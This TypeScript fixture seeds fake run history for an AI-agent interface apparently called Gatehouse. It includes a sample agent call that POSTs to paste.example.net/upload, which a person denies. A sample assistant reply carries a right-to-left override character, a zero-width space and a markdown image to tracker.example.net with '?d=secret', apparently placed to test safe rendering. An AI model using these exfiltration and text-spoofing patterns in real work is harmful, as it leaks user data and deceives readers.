// What has happened in the fake Gatehouse before the window opens: a finished run with one of
// everything, and older ones.
import type { CallResult, CallStatus, Route } from '../../contract/call/call.ts'
import type { Decision } from '../../contract/policy/decision.ts'
import type { RunId } from '../../contract/ids.ts'
import type { JsonObject } from '../../contract/json.ts'
import type { Run, RunItem, RunState } from '../../contract/agent/run.ts'
import { callId, decision, runId, workspace } from './bridge-data.ts'

export const ended = (
  n: number,
  evaluated: Decision,
  status: CallStatus,
  route: Route,
  text: string,
): CallResult => ({
  requestId: callId(n),
  ok: status === 'done',
  status,
  route,
  decision: evaluated,
  text,
  data: null,
  stdout: '',
  stderr: '',
  exitCode: null,
  truncated: false,
  durationMs: status === 'denied' ? 0 : 38,
  label: 'workspace',
  flags: [],
  error: status === 'denied' ? { code: 'call.denied', text } : null,
})

/** A finished run with one of everything, and three older ones in other states. */
export function putHistory(
  putRun: (id: RunId, change: Partial<Run>) => Run,
  put: (id: RunId, item: RunItem) => void,
): void {
  const older: readonly [n: number, title: string, state: RunState][] = [
    [4, 'Sort the photos of the summer into folders by month', 'stopped'],
    [3, 'Find out why the feed test fails', 'failed'],
    [2, 'Write release notes for 1.4', 'interrupted'],
  ]
  for (const [n, title, state] of older) {
    putRun(runId(n), { title, state, steps: n })
    put(runId(n), { kind: 'user', id: 1, at: Date.now(), text: title })
  }
  const id = runId(1)
  const base = (n: number) => ({ id: n, at: Date.now() })
  const touch = {
    kind: 'fs.read',
    path: `${workspace}/README.md`,
    zone: 'workspace',
    is: 'file',
  } as const
  const args: JsonObject = { path: 'README.md' }
  const call = (n: number, tool: string, callArgs: JsonObject, result: CallResult): RunItem => ({
    kind: 'call',
    ...base(n),
    callId: callId(60 + n),
    modelCallId: `toy_${n}`,
    tool,
    args: callArgs,
    state: { kind: 'ended', result },
  })
  put(id, { kind: 'user', ...base(1), text: 'Bring the README up to date and run the tests.' })
  put(
    id,
    call(
      2,
      'read_file',
      args,
      ended(
        62,
        decision('R1', 'allow', [touch], ['Reading inside the workspace runs without asking.']),
        'done',
        'policy',
        '# Site\n\nA small site.\n',
      ),
    ),
  )
  const lines = Array.from(
    { length: 48 },
    (_, at) => `PASS  build/page-${at + 1}.test.ts (${(at % 7) + 2})`,
  ).join('\n')
  put(
    id,
    call(
      3,
      'exec',
      { command: 'npm test' },
      {
        ...ended(
          63,
          decision(
            'R3',
            'confirm',
            [{ kind: 'proc.run', command: 'npm test', cwd: workspace, zone: 'workspace' }],
            ['Commands always ask.'],
          ),
          'done',
          'person',
          lines,
        ),
        durationMs: 6_140,
        exitCode: 0,
      },
    ),
  )
  put(
    id,
    call(
      4,
      'http',
      { method: 'POST', url: 'https://paste.example.net/upload' },
      ended(
        64,
        decision(
          'R3',
          'confirm',
          [
            {
              kind: 'net.fetch',
              method: 'POST',
              url: 'https://paste.example.net/upload',
              host: 'paste.example.net',
              port: 443,
              reach: 'public',
              listed: false,
            },
          ],
          ['It leaves this machine.'],
        ),
        'denied',
        'person',
        'The person denied this call.',
      ),
    ),
  )
  put(id, {
    kind: 'assistant',
    ...base(5),
    streaming: false,
    text: 'All **48** tests pass. What I did:\n\n- read `README.md`\n- ran the tests\u202e of `a\u200bb` 👩‍💻\n\n| file | state |\n| --- | --- |\n| README.md | up to date |\n\n```sh\nnpm test\n```\n\nSee [the guide](https://example.org/guide?x=1) ![chart](https://tracker.example.net/p.png?d=secret)',
  })
  put(id, {
    kind: 'notice',
    ...base(6),
    tone: 'error',
    text: 'The model server stopped in the middle of its answer.',
    hint: 'What it had said is kept. Try again.',
  })
  putRun(id, {
    title: 'Bring the README up to date and run the tests',
    state: 'idle',
    steps: 3,
    model: 'qwen3-coder at localhost:11434',
    tokensIn: 18_204,
    tokensOut: 1_340,
    costs: [{ currency: 'USD', amount: 0.0747 }],
    context: { used: 12_310, window: 32_768 },
  })
}
